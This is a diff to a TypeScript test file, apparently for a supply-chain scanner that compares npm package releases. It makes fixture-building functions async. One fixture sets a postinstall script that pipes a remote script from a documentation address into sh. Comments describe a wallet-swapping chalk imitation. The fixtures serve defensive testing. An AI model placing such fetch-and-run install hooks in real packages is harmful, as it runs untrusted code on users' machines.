@@ -41,7 +41,7 @@ const times = { '0.9.0': '2025-03-01T10:00:00Z', '0.9.1': '2025-04-01T10:00:00Z'
 const registry = (over: Partial<RegistryVersionInfo>): RegistryVersionInfo => ({ maintainers: [alice], publisher: alice, provenance, versionTimes: times, ...over });
 
 /** A benign patch release by the usual maintainer, with the usual provenance, on the usual monthly cadence. */
-function cleanDiff(): ReleaseDiff {
+async function cleanDiff(): Promise<ReleaseDiff> {
   const from = sideFromFiles('cw-demo', '1.0.0', { 'package.json': pkg('1.0.0'), 'index.js': utils('Hello'), 'README.md': '# demo\n' }, registry({ publishedAt: times['1.0.0'] }));
   const to = sideFromFiles('cw-demo', '1.0.1', { 'package.json': pkg('1.0.1'), 'index.js': utils('Hi'), 'README.md': '# demo\n' }, registry({ publishedAt: times['1.0.1'] }));
   return diffRelease(from, to, opts);
@@ -53,12 +53,12 @@ const chalkSide = (version: string, index: string, padding: number) =>
   sideFromFiles('chalk', version, { 'package.json': manifestText({ name: 'chalk', version, main: 'index.js' }), 'index.js': index, 'lib/loader.js': loader(padding) });
 
 /** The chalk 5.6.1 imitation: one appended obfuscated line that swaps wallet addresses. */
-function chalkDiff(): ReleaseDiff {
+async function chalkDiff(): Promise<ReleaseDiff> {
   return diffRelease(chalkSide('5.6.0', chalkClean, 1), chalkSide('5.6.1', chalkFixture, 3), opts);
 }
 
 /** A postinstall that downloads and runs a script (a documentation address, nothing listens there). */
-function postinstallDiff(): ReleaseDiff {
+async function postinstallDiff(): Promise<ReleaseDiff> {
   const base = { 'index.js': 'module.exports = 1;\n' };
   const from = sideFromFiles('cw-demo', '1.0.0', { ...base, 'package.json': pkg('1.0.0') });
   const to = sideFromFiles('cw-demo', '1.0.1', { ...base, 'package.json': pkg('1.0.1', { scripts: { postinstall: 'curl -s http://198.51.100.7/setup.sh | sh' } }) });
@@ -70,7 +70,7 @@ function postinstallDiff(): ReleaseDiff {
  * one-day-old typo-like dependency, a moved repository and entry point, a dist-tag move, a binary,
  * a rename, a removed file and more added files than the text lists.
  */
-function publicationDiff(): ReleaseDiff {
+async function publicationDiff(): Promise<ReleaseDiff> {
   const evil = { name: 'evil', email: 'evil@example.invalid' };
   const png = (n: number) => new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, ...new Array<number>(n).fill(7)]);
   const docs = Object.fromEntries(Array.from({ length: 12 }, (_, i) => [`docs/page-${String(i).padStart(2, '0')}.md`, `# page ${i}\n`]));
@@ -103,7 +103,7 @@ function publicationDiff(): ReleaseDiff {
   return diffRelease(from, to, { ...opts, popularNames: ['chalk', 'lodash', 'react'], dependencyFacts: facts });
 }
 
-const diffs = { clean: cleanDiff(), chalk: chalkDiff(), postinstall: postinstallDiff(), publication: publicationDiff() };
+const diffs = { clean: await cleanDiff(), chalk: await chalkDiff(), postinstall: await postinstallDiff(), publication: await publicationDiff() };
 const reportOf = (diff: ReleaseDiff, extra: Partial<DiffReport> = {}): DiffReport => ({ tool, diff, elapsedMs: 412, ...extra });
 
 /** Every diff of the lockfile sample, and each way a package can end up unchecked. */
